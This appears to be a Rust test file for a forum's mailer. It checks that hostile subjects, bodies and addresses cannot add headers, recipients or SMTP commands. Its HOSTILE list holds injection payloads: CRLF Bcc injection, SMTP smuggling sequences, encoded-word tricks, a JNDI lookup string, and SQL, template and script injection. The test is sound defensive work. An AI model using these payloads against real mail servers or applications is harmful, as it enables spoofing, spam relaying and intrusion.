//! Whatever stands in a letter, what leaves is one mail to one address with the
//! headers that are meant: the captured dialogue says so.

use gatherly::{
    base::{clock::Timestamp, text::clean_lines},
    config::{Config, MailTransport, SmtpTls},
    outbound::mail::{Letter, Mailer, Undelivered},
};
use uuid::Uuid;

use crate::support::{
    Mail, headers,
    smtp::{Mood, Smtp},
};

/// What somebody may try to put into a mail.
const HOSTILE: &[&str] = &[
    "\r\nBcc: eve@evil.example",
    "\nBcc: eve@evil.example",
    "\rBcc: eve@evil.example",
    "x\r\n\r\nA body of its own",
    "x\n\nA body of its own",
    "x\r\n.\r\nMAIL FROM:<eve@evil.example>",
    "x\n.\nRCPT TO:<eve@evil.example>",
    "x\r.\rRCPT TO:<eve@evil.example>",
    "x\r\n.\rRCPT TO:<eve@evil.example>\r\n",
    "x\n.\r\nRCPT TO:<eve@evil.example>",
    "\r\n .\r\nDATA",
    ".",
    "..",
    ".\r\n.\r\n.",
    "\r\nTo: eve@evil.example\r\nSubject: another",
    "\r\n\tfolded: on",
    "\r\n folded: on",
    "%0d%0aBcc: eve@evil.example",
    "%0aBcc:eve@evil.example",
    "\\r\\nBcc: eve@evil.example",
    "=0D=0ABcc: eve@evil.example",
    "=?utf-8?q?=0d=0aBcc:_eve@evil.example?=",
    "=?utf-8?b?DQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=",
    "=?",
    "?=",
    "\u{0}",
    "x\u{0}\r\nBcc: eve@evil.example",
    "\u{b}Bcc: eve@evil.example",
    "\u{c}Bcc: eve@evil.example",
    "\u{85}Bcc: eve@evil.example",
    "\u{2028}Bcc: eve@evil.example",
    "\u{2029}Bcc: eve@evil.example",
    "\u{1c}\u{1d}\u{1e}\u{1f}",
    "\u{7f}\u{80}\u{9f}",
    "\u{202e}moc.elpmaxe@eve",
    "\u{200f}\u{2067}x\u{2069}",
    "\u{feff}x",
    "\u{ff0d}\u{ff1a}\u{ff20}",
    "嘊嘍Bcc: eve@evil.example",
    "čĊBcc: eve@evil.example",
    "<eve@evil.example>",
    "Ada <eve@evil.example>",
    "\"Ada\" <eve@evil.example>, <mallory@evil.example>",
    "eve@evil.example, mallory@evil.example",
    "eve@evil.example;mallory@evil.example",
    "eve@evil.example mallory@evil.example",
    "eve@evil.example\u{0}@example.org",
    "ada@example.org\r\nRCPT TO:<eve@evil.example>",
    "ada@example.org>\r\nRCPT TO:<eve@evil.example",
    "ada@example.org> SIZE=1",
    "ada@example.org\nDATA",
    "ada@example.org\u{2028}x",
    "a@b@c",
    "@evil.example:ada@example.org",
    "ada@[127.0.0.1]",
    "\"x\\\"@example.org",
    "(comment)ada@example.org",
    "ada@example.org(comment)",
    "evil.example",
    "www.evil.example/path",
    "name.with.dots",
    "a, b; c: d <e> @f",
    "'; drop table mails; --",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "</body></html>\r\n--",
    "--boundary\r\nContent-Type: text/html",
    "Content-Type: text/html",
    "ﷺﷺﷺ",
    "a\u{301}\u{301}\u{301}",
    "👩‍👩‍👧‍👦",
    "",
    " ",
    "\t",
];

const HEADERS: &[&str] = &[
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "Auto-Submitted",
    "List-Unsubscribe",
    "List-Unsubscribe-Post",
    "MIME-Version",
    "Content-Type",
];

fn letter() -> Letter {
    Letter {
        id: Uuid::from_u128(7),
        to: "ada@example.org".to_owned(),
        subject: "A subject".to_owned(),
        text: "A text.\n".to_owned(),
        html: "<p>A text.</p>\n".to_owned(),
        at: Timestamp(1_767_225_600_000),
        unsubscribe: Some("https://forum.example/api/v1/x/y".to_owned()),
    }
}

pub(super) fn config(smtp: &Smtp) -> Config {
    let mut config = Config::defaults().unwrap();
    "https://forum.example".clone_into(&mut config.server.public_url);
    config.mail.transport = MailTransport::Smtp;
    "Our forum <forum@forum.example>".clone_into(&mut config.mail.from);
    "127.0.0.1".clone_into(&mut config.mail.smtp_host);
    config.mail.smtp_port = smtp.address.port();
    config.mail.smtp_tls = SmtpTls::None;
    config
}

/// Checks the last mail that was handed over, the `count`th.
fn check(smtp: &Smtp, count: usize, what: &str) -> Mail {
    let deliveries = smtp.deliveries();
    assert_eq!(deliveries.len(), count, "{what:?}: {deliveries:?}");
    let delivery = deliveries.last().unwrap();
    assert_eq!(delivery.from, "forum@forum.example", "{what:?}");
    assert_eq!(delivery.to, ["ada@example.org"], "{what:?}");
    let head = delivery.message.split_once("\r\n\r\n").unwrap().0;
    let found = headers(head);
    let mut names: Vec<&str> = found.iter().map(|(name, _)| name.as_str()).collect();
    let mut expected = HEADERS.to_vec();
    names.sort_unstable();
    expected.sort_unstable();
    assert_eq!(names, expected, "{what:?}: {head}");
    let mail = Mail::parse(&delivery.message);
    assert_eq!(mail.header("To"), "ada@example.org", "{what:?}");
    assert!(mail.header("From").ends_with("<forum@forum.example>"), "{what:?}");
    assert_eq!(mail.header("Auto-Submitted"), "auto-generated");
    assert_eq!(mail.header("Message-ID"), format!("<{}@forum.example>", letter().id));
    assert_eq!(mail.header("Date"), "Thu, 01 Jan 2026 00:00:00 +0000");
    assert_eq!(mail.header("List-Unsubscribe"), "<https://forum.example/api/v1/x/y>");
    assert_eq!(mail.header("List-Unsubscribe-Post"), "List-Unsubscribe=One-Click");
    mail
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_in_a_letter_makes_a_header_or_a_recipient() {
    assert!(HOSTILE.len() >= 60);
    let smtp = Smtp::start(Mood::Willing).await;
    let mailer = Mailer::new(&config(&smtp)).unwrap();
    let long = ["x".repeat(5_000), "ä".repeat(5_000), "x ".repeat(5_000)];
    let mut sent = 0;
    for hostile in HOSTILE.iter().copied().chain(long.iter().map(String::as_str)) {
        let subject = Letter { subject: hostile.to_owned(), ..letter() };
        mailer.send(&subject).await.unwrap();
        sent += 1;
        let mail = check(&smtp, sent, hostile);
        assert_eq!((mail.text.as_str(), mail.html.as_str()), ("A text.\n", "<p>A text.</p>\n"));
        let text = Letter { text: hostile.to_owned(), html: hostile.to_owned(), ..letter() };
        mailer.send(&text).await.unwrap();
        sent += 1;
        let mail = check(&smtp, sent, hostile);
        let meant = clean_lines(hostile) + "\n";
        assert_eq!((&mail.text, &mail.html), (&meant, &meant), "{hostile:?}");
    }
    // The server was told nothing but what belongs to it.
    for line in smtp.lines() {
        let verb = line.split([' ', ':']).next().unwrap();
        assert!(matches!(verb, "EHLO" | "MAIL" | "RCPT" | "DATA" | "NOOP"), "{line:?}");
        assert!(!line.contains("evil"), "{line:?}");
    }
    let recipients = smtp.lines().iter().filter(|line| line.starts_with("RCPT")).count();
    assert_eq!(recipients, sent);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_address_is_one_address_or_none() {
    let smtp = Smtp::start(Mood::Willing).await;
    let mailer = Mailer::new(&config(&smtp)).unwrap();
    let mut accepted = 0;
    for hostile in HOSTILE {
        let result = mailer.send(&Letter { to: (*hostile).to_owned(), ..letter() }).await;
        if result.is_ok() {
            accepted += 1;
            let deliveries = smtp.deliveries();
            assert_eq!(deliveries.len(), accepted);
            assert_eq!(deliveries.last().unwrap().to, [*hostile], "{hostile:?}");
        } else {
            assert!(matches!(result, Err(Undelivered::Refused(_))), "{hostile:?}: {result:?}");
        }
    }
    for line in smtp.lines() {
        assert!(!line.contains("evil"), "{line:?}");
    }
    assert!(accepted <= 2, "{accepted} of these are addresses");
}
